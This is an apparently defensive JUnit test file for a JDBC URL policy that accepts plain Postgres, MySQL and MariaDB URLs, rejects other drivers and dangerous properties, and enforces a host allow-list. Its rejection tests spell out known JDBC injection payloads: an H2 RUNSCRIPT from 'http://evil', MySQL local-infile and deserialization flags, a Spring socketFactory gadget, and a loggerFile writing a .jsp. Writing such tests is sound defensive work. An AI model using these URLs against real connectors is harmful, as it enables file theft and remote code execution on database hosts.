package dev.databaseai.server.pool;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.databaseai.dialect.Dialects;
import dev.databaseai.server.api.ApiException;
import java.util.List;
import org.junit.jupiter.api.Test;

class JdbcUrlPolicyTest {

  private final JdbcUrlPolicy open = new JdbcUrlPolicy(Dialects.load(), List.of());

  @Test
  void acceptsPlainPostgresMysqlAndMariadbUrls() {
    assertThat(open.check("jdbc:postgresql://db.example.com:5432/sales?ssl=true").id())
        .isEqualTo("postgres");
    assertThat(open.check("jdbc:mysql://db.example.com:3306/sales").id()).isEqualTo("mysql");
    assertThat(open.check("jdbc:mariadb://db.example.com/sales").id()).isEqualTo("mysql");
  }

  @Test
  void refusesOtherDriversNamingTheSupportedOnes() {
    assertThatThrownBy(() -> open.check("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'"))
        .isInstanceOf(ApiException.class)
        .hasMessageContaining("jdbc:postgresql://")
        .hasMessageContaining("jdbc:mysql://");
  }

  @Test
  void refusesDangerousPropertiesInAnyCaseAndPosition() {
    for (String url :
        List.of(
            "jdbc:mysql://h/db?allowLoadLocalInfile=true",
            "jdbc:mysql://h/db?x=1&ALLOWURLINLOCALINFILE=true",
            "jdbc:mysql://h/db?autoDeserialize=true",
            "jdbc:mysql://address=(host=h)(port=3306)(allowLoadLocalInfile=true)/db",
            "jdbc:mysql://(host=h,port=3306,queryInterceptors=com.evil.X)/db",
            "jdbc:mysql://h/db?allow%4CoadLocalInfile=true",
            "jdbc:mariadb://h/db?allowLocalInfile=true",
            "jdbc:postgresql://h/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
            "jdbc:postgresql://h/db?sslfactory=x&sslfactoryarg=http://evil",
            "jdbc:postgresql://h/db?loggerLevel=TRACE&loggerFile=/tmp/x.jsp",
            "jdbc:postgresql://h/db;exceptionInterceptors=x")) {
      assertThatThrownBy(() -> open.check(url))
          .as(url)
          .isInstanceOf(ApiException.class)
          .hasMessageContaining("refuses");
    }
  }

  @Test
  void allowListAdmitsOnlyListedHosts() {
    JdbcUrlPolicy policy = new JdbcUrlPolicy(Dialects.load(), List.of("db.internal", "10.0.0.5"));

    assertThat(policy.check("jdbc:postgresql://db.internal:5432/x").id()).isEqualTo("postgres");
    assertThat(policy.check("jdbc:mysql://10.0.0.5/x").id()).isEqualTo("mysql");
    assertThatThrownBy(() -> policy.check("jdbc:postgresql://evil.example.com/x"))
        .isInstanceOfSatisfying(
            ApiException.class, e -> assertThat(e.status().getCode()).isEqualTo(403))
        .hasMessageContaining("evil.example.com");
    assertThatThrownBy(() -> policy.check("jdbc:postgresql://db.internal,evil.example.com/x"))
        .hasMessageContaining("evil.example.com");
  }

  @Test
  void readsHostsFromEveryUrlForm() {
    assertThat(JdbcUrlPolicy.hosts("jdbc:postgresql://a:5432,b:5433/db")).containsExactly("a", "b");
    assertThat(JdbcUrlPolicy.hosts("jdbc:postgresql://[::1]:5432/db")).containsExactly("::1");
    assertThat(JdbcUrlPolicy.hosts("jdbc:mysql://user:pw@Db.Example.com/db"))
        .containsExactly("db.example.com");
    assertThat(
            JdbcUrlPolicy.hosts("jdbc:mysql://address=(host=h1)(port=3306),address=(host=h2)/db"))
        .containsExactly("h1", "h2");
  }
}
